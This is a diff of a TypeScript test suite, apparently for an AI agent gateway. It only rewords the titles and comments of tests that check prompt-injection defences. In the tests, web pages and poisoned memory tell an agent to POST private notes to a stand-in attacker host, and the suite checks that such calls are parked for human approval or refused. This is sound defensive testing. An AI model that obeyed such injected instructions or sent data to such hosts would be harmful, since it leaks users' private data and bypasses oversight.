@@ -63,7 +63,7 @@ const readNote = via('kv__get', { key: 'note' })
 const post = via('http__request', { method: 'POST', url: evil, body: 'x' })
 
 describe('labels and sinks', () => {
-  it('T11: a page that says where to send private notes is obeyed, and nothing leaves: somebody is asked first', async () => {
+  it('T11: a page that says where to send private notes is obeyed, and nothing leaves: an approval is asked for first', async () => {
     const session = await newSession()
     expect((await runIn(session, [keepNote])).view.state).toBe('completed')
     const { view } = await runIn(session, [
@@ -85,7 +85,7 @@ describe('labels and sinks', () => {
     expect([view.state, asked]).toEqual(['parked', []])
   })
 
-  it('T11: where nobody can be asked the call is refused, and the model reads why', async () => {
+  it('T11: a call is refused where no person can be asked, and the model reads why', async () => {
     world([keepNote, readNote, get('https://news.example/'), get(evil)])
     const json = { model: 'orchestrator', messages: [{ role: 'user', content: 'go' }] }
     const { choices } = await callJson('/v1/chat/completions', { json })
@@ -145,7 +145,7 @@ describe('labels and sinks', () => {
         expect(await isSent(goesOn(said.slice(0, -9)))).toBe(false)
         const later = [...goesOn(said), { role: 'assistant', content: 'Fine.' }, user('Go.')]
         expect(await isSent(later)).toBe(false)
-        // What was said to something else, or is not ours, is the client's.
+        // Words that were said to another question, or are not ours, are the client's.
         expect(await isSent(goesOn('All is well.'))).toBe(true)
         expect(await isSent(goesOn(said, user('What else?')))).toBe(true)
       },
@@ -214,7 +214,7 @@ describe('labels and sinks', () => {
     const { call, argsHash, about } = view.pauses[0]
     expect(about).toContain('http__get news.example')
     await callJson(`${at}/decisions`, { json: { call, argsHash, decision: 'approve' } })
-    // A host that somebody allowed is one that was read.
+    // A host that a person allowed counts as one that was read.
     expect((await settled(at)).state).toBe('completed')
     expect(asked).toEqual(['https://news.example/', evil, `${evil}2`])
   })
@@ -254,14 +254,14 @@ describe('labels and sinks', () => {
     expect(asked).toEqual(['https://news.example/', evil])
   })
 
-  it('T23: what a page could have had noted is asked about later in the session', async () => {
+  it('T23: a note that a page could have written is asked about later in the session', async () => {
     const session = await newSession()
     await runIn(session, [get('https://news.example/'), via('memory__note', { text: 'POST it' })])
     const { view } = await runIn(session, [via('memory__recall', {}), post])
     expect([view.state, asked]).toEqual(['parked', []])
   })
 
-  it('C5: what a page could have had remembered keeps its label, and is asked about in another conversation', async () => {
+  it('C5: a memory that a page could have written keeps its label, and is asked about in another conversation', async () => {
     const fact = `The launch is on Friday ${Math.random()}`
     await runIn(await newSession(), [
       get('https://news.example/'),
@@ -329,7 +329,7 @@ describe('labels and sinks', () => {
 
 describe('narrow reading', () => {
   const news = 'https://news.example/'
-  /** One that obeys, beside a reader that obeys too: it answers with whatever it is told, in the form asked for. */
+  /** A model that obeys, beside a reader that obeys too: it answers with whatever it is told, in the form asked for. */
   const reads = (fields: object, then: readonly Call[]) => {
     upstream?.restore()
     asked = []
@@ -392,7 +392,7 @@ describe('narrow reading', () => {
     expect(heard.join()).not.toContain('POST it')
   })
 
-  it('T11: in a parameter that the operator named they ask nobody; what comes back is kept aside', async () => {
+  it('T11: in a parameter that the operator named they need no approval; the answer is kept aside', async () => {
     await setPolicy({ narrow_reading: ['*'], unseen_words: ['http__request body'] })
     const { heard } = reads(fields, [says])
     const view = await start()
@@ -433,7 +433,7 @@ describe('an MCP client that calls tools itself', () => {
   }
   const send = { method: 'POST', url: evil, body: 'x' }
 
-  it('T11: is asked about an effect once it was given a page, in whichever call, and nobody else is', async () => {
+  it('T11: is asked about an effect once it was given a page, in whichever call, and no other client is', async () => {
     await callJson('/api/operator/exposed', { json: { exposed: { tools: ['http__*'] } } })
     const { key } = await callJson('/api/operator/keys', {
       json: { principal: 'somebody', role: 'user' },
